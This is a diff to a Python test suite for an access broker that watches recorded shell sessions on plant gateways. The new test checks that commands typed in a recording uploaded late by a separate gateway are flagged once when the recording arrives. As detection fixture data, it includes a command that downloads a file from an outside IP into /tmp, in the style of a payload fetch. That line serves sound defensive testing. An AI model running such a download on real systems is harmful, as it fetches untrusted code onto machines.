@@ -14,6 +14,8 @@ from typing import Any
 import pytest
 from sqlalchemy import update
 
+from broker.audit import trail
+from broker.audit.trail import Action
 from broker.errors import Forbidden, LoginFailed
 from broker.identity import authentication, identities
 from broker.inventory import gateways
@@ -192,8 +194,9 @@ def test_more_sessions_at_once_than_ever_before_are_flagged(plant: Plant) -> Non
         "many_sessions", "3 sessions open at once", "never more than 2 before")
 
 
-def _typed_session(plant: Plant, grant_id: str, recordings: Path, *commands: str) -> str:
-    """A recorded shell session in which these command lines were typed (and echoed)."""
+def _typed_session(plant: Plant, grant_id: str, recordings: Path, *commands: str, uploads: bool = False) -> str:
+    """A recorded shell session in which these command lines were typed (and echoed); ``uploads``: ended by a
+    separate gateway that has yet to upload the recording."""
     session_id = _session(plant, grant_id, ends=False)
     events = [[0.0, "o", "$ "]]
     for command in commands:
@@ -205,7 +208,7 @@ def _typed_session(plant: Plant, grant_id: str, recordings: Path, *commands: str
     with plant.session() as session:
         gateways.end_session(session, now=plant.clock.now(), gateway=_gateway(session, plant), session_id=session_id,
                              reason="client_closed", bytes_in=2000, bytes_out=5000, detail=None,
-                             recording={"name": name, "sha256": "0" * 64, "bytes": 1})
+                             recording={"name": name, "sha256": "0" * 64, "bytes": 1, "uploads": uploads})
     return session_id
 
 
@@ -234,6 +237,33 @@ def test_a_program_typed_for_the_first_time_is_flagged_where_input_is_recorded(p
     [signal] = flag["signals"]
     assert (signal["signal"], signal["observed"], signal["usual"]) == (
         "new_command", "first run of curl, chmod (typed)", "usually ls, tail")
+
+
+def test_what_was_typed_in_a_separate_gateways_recording_is_weighed_once_when_it_arrives(
+        plant: Plant, tmp_path: Path) -> None:
+    grant_id = _history(plant)
+    for day in range(5):
+        plant.clock.set(MONDAY_9 + dt.timedelta(days=7 + day))
+        _typed_session(plant, grant_id, tmp_path, "tail -n 50 /var/log/hmi.log", "ls /opt/hmi")
+    _watch_reading(plant, tmp_path)
+    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
+    on_gateway = tmp_path / "on-gateway"
+    on_gateway.mkdir()
+    # The gateway still holds the file at the session's end (here: it is not in the broker's directory yet).
+    session_id = _typed_session(plant, grant_id, on_gateway, "curl -o /tmp/x http://203.0.113.9/x", uploads=True)
+    _watch_reading(plant, tmp_path)
+    assert _open_flags(plant) == []
+
+    (on_gateway / f"{session_id}.cast").rename(tmp_path / f"{session_id}.cast")  # uploaded
+    with plant.session() as session:
+        trail.record(session, now=plant.clock.now(), action=Action.RECORDING_RECEIVED, actor="gateway:embedded",
+                     subject=session_id, site="plant-a", details={"recording": {"name": f"{session_id}.cast"}})
+    _watch_reading(plant, tmp_path)
+
+    [flag] = _open_flags(plant)
+    assert flag["session"] == session_id
+    [signal] = flag["signals"]
+    assert (signal["signal"], signal["observed"]) == ("new_command", "first run of curl (typed)")
 
 
 def test_a_burst_of_failed_sign_ins_is_flagged_once(plant: Plant) -> None:
